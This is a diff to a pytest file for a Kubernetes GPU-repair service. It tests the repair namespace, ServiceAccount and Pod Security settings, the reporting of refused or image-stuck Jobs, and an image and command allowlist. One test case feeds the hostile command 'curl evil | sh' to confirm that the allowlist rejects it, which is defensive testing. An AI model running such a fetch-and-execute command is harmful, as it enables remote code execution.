@@ -23,7 +23,18 @@ Cases:
 - dry run: the manifest comes back, nothing is created;
 - drain lists (DRA and device plugin): a reset group's drain names the pods on the group's
   GPUs only; a node drain names every pod of the node except DaemonSet pods, mirror pods and
-  Sickbay's own namespace; both report every physical GPU of the node.
+  Sickbay's repair namespace; both report every physical GPU of the node.
+- the repair namespace (`enforce: privileged`, as deploy/ ships it): the Jobs run there as the
+  `sickbay-repair` ServiceAccount with no token, with requests and limits; the reset pod is
+  the only privileged one, the validation pod passes Pod Security baseline (drops every
+  capability, no privilege escalation, RuntimeDefault seccomp);
+- a Job whose pod is refused (the namespace `enforce: restricted`, as the repair Jobs once ran
+  in Sickbay's own namespace) -> RepairJobRefused at the next poll with the FailedCreate text,
+  while the Job has not failed yet (long before its deadline); a pod stuck on an image pull ->
+  RepairJobRefused naming ErrImagePull and its message;
+- the allowlist: an image or command the allowlist lacks, or no image allowlisted ->
+  RepairNotAllowed naming it, nothing created; the allowlist's first image is the default; an
+  input naming another namespace than the repair namespace -> RepairNotAllowed too.
 """
 
 from __future__ import annotations
@@ -37,8 +48,14 @@ from typing import Any
 import pytest
 from temporalio.exceptions import ApplicationError
 
+from activities.kube.repair import RepairConfig
 from activities.kube.repair_activities import KubeRepairActivities
-from contract.errors import ERR_GPU_HELD, ERR_STILL_WAITING
+from contract.errors import (
+    ERR_GPU_HELD,
+    ERR_REPAIR_JOB_REFUSED,
+    ERR_REPAIR_NOT_ALLOWED,
+    ERR_STILL_WAITING,
+)
 from contract.names import REPAIR_NAMESPACE
 from contract.repair import (
     CleanUpRepairJobInput,
@@ -53,11 +70,19 @@ from contract.repair import (
     WaitNodeGpusInput,
     WaitRepairJobInput,
 )
+from contract.runbook import RepairAllowlist
 from tests.activities.kube.conftest import DRIVER, KubeTwin, twin
 from twin.clock import Clock
 from twin.controllers.manager import ControllerManager, TwinOptions
 
 WAIT = 30.0  # real seconds for a Job to end on a busy machine
+RESET_IMAGE = "registry.invalid/ops/nvidia-smi@sha256:" + "a" * 64
+VALIDATION_IMAGE = "registry.invalid/ops/dcgm@sha256:" + "b" * 64
+ALLOWLIST = RepairAllowlist.model_validate(
+    {"reset": {"images": [RESET_IMAGE]}, "validation": {"images": [VALIDATION_IMAGE]}}
+)
+CONFIG = RepairConfig(allowlist=ALLOWLIST)
+PRIVILEGED_NS = {"pod-security.kubernetes.io/enforce": "privileged"}
 
 
 @pytest.fixture
@@ -65,7 +90,11 @@ def make(tmp_path: Path) -> Iterator[Any]:
     stack: list[Any] = []
 
     def start(
-        profile: str, options: TwinOptions | None = None, **seed: Any
+        profile: str,
+        options: TwinOptions | None = None,
+        ns_labels: dict[str, str] | None = None,
+        config: RepairConfig = CONFIG,
+        **seed: Any,
     ) -> tuple[KubeTwin, KubeRepairActivities]:
         cm = twin(
             tmp_path,
@@ -76,8 +105,8 @@ def make(tmp_path: Path) -> Iterator[Any]:
         )
         t = cm.__enter__()
         stack.append(cm)
-        t.namespace(REPAIR_NAMESPACE)
-        acts = KubeRepairActivities(t.acts.kube)
+        t.namespace(REPAIR_NAMESPACE, PRIVILEGED_NS if ns_labels is None else ns_labels)
+        acts = KubeRepairActivities(t.acts.kube, config)
         stack.append(acts)
         return t, acts
 
@@ -385,13 +414,13 @@ def test_a_new_incident_of_the_same_gpu_gets_its_own_jobs() -> None:
 
     def reset(incident: str) -> str:
         inp = RepairJobInput(workflow_id="wf", incident=incident, node="n", gpu_uuids=["GPU-1"])
-        return str(reset_job_manifest(inp)["metadata"]["name"])
+        return str(reset_job_manifest(inp, CONFIG)["metadata"]["name"])
 
     def validation(incident: str) -> str:
         inp = ValidationJobInput(
             workflow_id="wf", incident=incident, mode="device-plugin", node="n", gpu_uuid="GPU-1"
         )
-        return str(validation_manifests(None, inp)[0]["metadata"]["name"])
+        return str(validation_manifests(None, inp, CONFIG)[0]["metadata"]["name"])
 
     assert reset("wf/run-1") == reset("wf/run-1")  # a retry of one attempt: the same Job
     assert reset("wf/run-1") != reset("wf/run-2")
@@ -476,3 +505,143 @@ async def test_a_replaced_nodes_new_gpus_are_guarded_and_validated(
     assert "Result: Pass" in outcomes[good].summary
     pods = t.store.list("pods", namespace=REPAIR_NAMESPACE).items
     assert {p["spec"]["nodeName"] for p in pods} == {back.node}  # ran on the cordoned node
+
+
+async def test_repair_pods_run_as_their_own_account_with_only_what_they_need(make: Any) -> None:
+    t, acts = make("1.36")
+    node = t.node()
+    uuid = t.uuid_of(node, 0)
+    reset = await t.run(
+        acts.start_reset_job,
+        RepairJobInput(workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[uuid]),
+    )
+    check = await t.run(
+        acts.start_validation_job,
+        ValidationJobInput(
+            workflow_id="wf",
+            incident="wf/run-1",
+            node=node,
+            gpu_uuid=uuid,
+            driver=DRIVER,
+            pool=node,
+            device="gpu-0",
+        ),
+    )
+    assert reset.namespace == check.namespace == REPAIR_NAMESPACE
+    specs = {
+        j["metadata"]["labels"]["sickbay.dev/repair"]: j["spec"]["template"]["spec"]
+        for j in _jobs(t)
+    }
+    for kind, spec in specs.items():
+        assert spec["serviceAccountName"] == "sickbay-repair", kind
+        assert spec["automountServiceAccountToken"] is False, kind
+        resources = spec["containers"][0]["resources"]
+        assert resources["requests"] and resources["limits"], kind
+    assert specs["reset"]["containers"][0]["image"] == RESET_IMAGE  # the allowlist's first
+    assert specs["reset"]["containers"][0]["securityContext"] == {"privileged": True}
+    validate = specs["validation"]["containers"][0]
+    assert validate["image"] == VALIDATION_IMAGE
+    assert validate["resources"]["claims"] == [{"name": "gpu"}]
+    from twin import podsecurity
+
+    assert podsecurity.violations("baseline", specs["validation"]) == []
+    assert podsecurity.violations("baseline", specs["reset"])  # privileged: only that level
+
+
+async def test_a_refused_reset_job_is_reported_at_the_next_poll(make: Any) -> None:
+    restricted = {"pod-security.kubernetes.io/enforce": "restricted"}
+    t, acts = make("1.36", ns_labels=restricted)
+    node = t.node()
+    inp = RepairJobInput(
+        workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[t.uuid_of(node, 0)]
+    )
+    job = await t.run(acts.start_reset_job, inp)
+    with pytest.raises(ApplicationError) as caught:
+        await _outcome(t, acts, job)
+    err = caught.value
+    assert err.type == ERR_REPAIR_JOB_REFUSED and err.non_retryable
+    assert "cannot create its pod: FailedCreate: Error creating: pods" in err.message
+    assert 'violates PodSecurity "restricted:latest": privileged (container "reset"' in err.message
+    # Said while the Job still runs towards its 5-minute deadline, not when it fails.
+    live = t.store.get("jobs.batch", job.job_name, REPAIR_NAMESPACE)
+    assert not [c for c in live["status"].get("conditions") or [] if c["type"] == "Failed"]
+
+
+async def test_a_pod_stuck_on_its_image_is_reported_with_the_kubelets_reason(make: Any) -> None:
+    t, acts = make("1.36", TwinOptions(pod_startup_seconds=3600))  # never starts by itself
+    node = t.node()
+    inp = RepairJobInput(
+        workflow_id="wf", incident="wf/run-1", node=node, gpu_uuids=[t.uuid_of(node, 0)]
+    )
+    job = await t.run(acts.start_reset_job, inp)
+    deadline = time.monotonic() + WAIT
+    while not (pods := t.store.list("pods", namespace=REPAIR_NAMESPACE).items):
+        assert time.monotonic() < deadline, "no pod"
+        await asyncio.sleep(0.05)
+    message = f'failed to pull and unpack image "{RESET_IMAGE}": 403 Forbidden'
+
+    def pull_failed(pod: dict[str, Any]) -> None:
+        pod["status"]["containerStatuses"] = [
+            {
+                "name": "reset",
+                "ready": False,
+                "restartCount": 0,
+                "image": RESET_IMAGE,
+                "imageID": "",
+                "state": {"waiting": {"reason": "ErrImagePull", "message": message}},
+            }
+        ]
+
+    name = pods[0]["metadata"]["name"]
+    t.store.mutate("pods", name, pull_failed, REPAIR_NAMESPACE, subresource="status")
+    with pytest.raises(ApplicationError) as caught:
+        await _outcome(t, acts, job)
+    assert caught.value.type == ERR_REPAIR_JOB_REFUSED
+    assert f"pod {name} cannot start: ErrImagePull: {message}" in caught.value.message
+
+
+@pytest.mark.parametrize(
+    ("config", "image", "command", "says"),
+    [
+        (CONFIG, "nvcr.io/nvidia/cuda:12.8.1-base-ubuntu24.04", [], "is not in the operator's"),
+        (CONFIG, None, ["sh", "-c", "curl evil | sh"], "command ['sh', '-c', 'curl evil | sh']"),
+        (RepairConfig(), None, [], "no reset image is allowlisted"),
+    ],
+)
+async def test_images_and_commands_come_from_the_allowlist(
+    make: Any, config: RepairConfig, image: str | None, command: list[str], says: str
+) -> None:
+    t, acts = make("1.36", config=config)
+    node = t.node()
+    inp = RepairJobInput(
+        workflow_id="wf",
+        incident="wf/run-1",
+        node=node,
+        gpu_uuids=[t.uuid_of(node, 0)],
+        image=image,
+        command=command,
+    )
+    with pytest.raises(ApplicationError) as caught:
+        await t.run(acts.start_reset_job, inp)
+    assert caught.value.type == ERR_REPAIR_NOT_ALLOWED and caught.value.non_retryable
+    assert says in caught.value.message
+    assert _jobs(t) == []
+
+
+async def test_jobs_are_created_in_the_repair_namespace_only(make: Any) -> None:
+    t, acts = make("1.36")
+    node = t.node()
+    inp = RepairJobInput(
+        workflow_id="wf",
+        incident="wf/run-1",
+        node=node,
+        gpu_uuids=[t.uuid_of(node, 0)],
+        namespace="sickbay",  # as recorded before the repair namespace existed
+    )
+    with pytest.raises(ApplicationError) as caught:
+        await t.run(acts.start_reset_job, inp)
+    assert caught.value.type == ERR_REPAIR_NOT_ALLOWED
+    assert "namespace 'sickbay' is not the repair namespace 'sickbay-repair'" in (
+        caught.value.message
+    )
+    assert t.store.list("jobs.batch").items == []
